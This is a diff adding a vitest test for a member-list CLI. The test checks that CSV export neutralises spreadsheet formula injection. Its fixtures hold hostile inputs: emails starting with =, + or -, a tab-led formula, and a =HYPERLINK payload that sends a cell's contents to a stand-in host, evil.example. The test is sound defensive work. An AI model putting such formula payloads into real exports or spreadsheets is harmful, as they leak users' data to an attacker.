@@ -1,20 +1,38 @@
+import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { run, type ListOptions } from '../../../src/commands/member/list.js';
+import { restoreCell } from '../../../src/csv-cells.js';
 import { deleteAccount } from '../../../src/domain/accounts.js';
 import { ENGINES, failure, useFixture, type TestUser } from '../../helpers/services.js';
 
 type Member = { email: string; firstName: string | null; lastName: string | null; role: string; status: string };
 
+/** Cells a spreadsheet would run as a formula (OWASP), and their full-width forms. */
+const FORMULA = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/u;
+/** E-mails Ned invites: cells a spreadsheet would run, or that look already escaped; =reg has an account. */
+const HOSTILE = [
+  '=cmd@example.com',
+  '+1@example.com',
+  '-x@example.com',
+  "'quote@example.com",
+  "'=y@example.com",
+  "''@example.com",
+  "'@example.com",
+  '=reg@example.com',
+];
+
 /**
- * Two companies: Ann's Smith Company (TEAM) with one member of each kind, for exact output
- * and who may list; and Zed's Zed Company (ENTERPRISE) of 2,500 members filled by SQL,
- * more than two pages (MEMBER_PAGE), for order, filters and paging. Process-level
- * behaviour (exit codes, pipes, sqld's response size) stays in e2e/lists.test.ts.
+ * Three companies: Ann's Smith Company (TEAM) with one member of each kind, for exact
+ * output and who may list; Zed's Zed Company (ENTERPRISE) of 2,500 members filled by SQL,
+ * more than two pages (MEMBER_PAGE), for order, filters and paging; Ned's Nash Company of
+ * e-mails and names a spreadsheet would run, for --csv. Process-level behaviour stays in
+ * e2e: exit codes in e2e/member.test.ts, a closed pipe and sqld's response size in
+ * e2e/lists.test.ts.
  */
 describe.each(ENGINES)('member list run() on %s', (engine) => {
   const fx = useFixture(engine);
   let ann: TestUser, adm: TestUser, mgr: TestUser, des: TestUser, inv: TestUser, bob: TestUser, zed: TestUser;
-  let sue: TestUser, gus: TestUser;
+  let sue: TestUser, gus: TestUser, ned: TestUser;
   let order: string[];
   let registered: Set<string>;
 
@@ -53,6 +71,15 @@ describe.each(ENGINES)('member list run() on %s', (engine) => {
     const hal = await f.register('hal@example.com', 'Hal', 'Hill');
     await f.join(gus, hal, 'manager');
     await deleteAccount(f.services, hal.cred);
+    // Ned's Nash Company: e-mails and names a spreadsheet would run. The registered one
+    // accepts (a member's name is listed once ACTIVE); a stored name may hold what
+    // validation refuses today (an older store): a leading tab.
+    ned = await f.register('ned@example.com', 'Ned', 'Nash');
+    const reg = await f.register('=reg@example.com', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)');
+    await f.setPlan(ned.company.id, 'TEAM');
+    await f.invite(ned, HOSTILE, 'DESIGNER');
+    await f.switchTo(reg, ned.company.id);
+    await f.sql(`UPDATE users SET last_name = :n WHERE email = '=reg@example.com'`, { n: '\t=1+1' });
   });
 
   const list = async (who: TestUser | undefined, o: Partial<ListOptions> & { tty?: boolean } = {}) => {
@@ -96,6 +123,24 @@ describe.each(ENGINES)('member list run() on %s', (engine) => {
       out: 'email,firstName,lastName,role,status\ndes@example.com,Dee,Designer,DESIGNER,ACTIVE\np1@example.com,,,DESIGNER,PENDING\n',
       err: '',
     });
+  });
+
+  it('--csv: cells a spreadsheet would run are neutralised, and undoing the quoting gives back exactly what is stored', async () => {
+    const stored = await json(ned);
+    expect(stored.map((m) => m.email)).toEqual(['ned@example.com', ...[...HOSTILE].sort()]);
+    const r = await list(ned, { csv: true });
+    expect(r.err).toBe('');
+    const rows: string[][] = parse(r.out);
+    expect(rows[0]).toEqual(['email', 'firstName', 'lastName', 'role', 'status']);
+    for (const cell of rows.slice(1).flat()) expect(cell, cell).not.toMatch(FORMULA);
+    expect(rows.slice(1).map((row) => row.map(restoreCell))).toEqual(
+      stored.map((m) => [m.email, m.firstName ?? '', m.lastName ?? '', m.role, m.status]),
+    );
+    expect(
+      r.out.endsWith(
+        `\n'=reg@example.com,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'\t=1+1,DESIGNER,ACTIVE\n`,
+      ),
+    ).toBe(true);
   });
 
   it('filters by role and status in any case; the OWNER is listed only when the filter admits them', async () => {
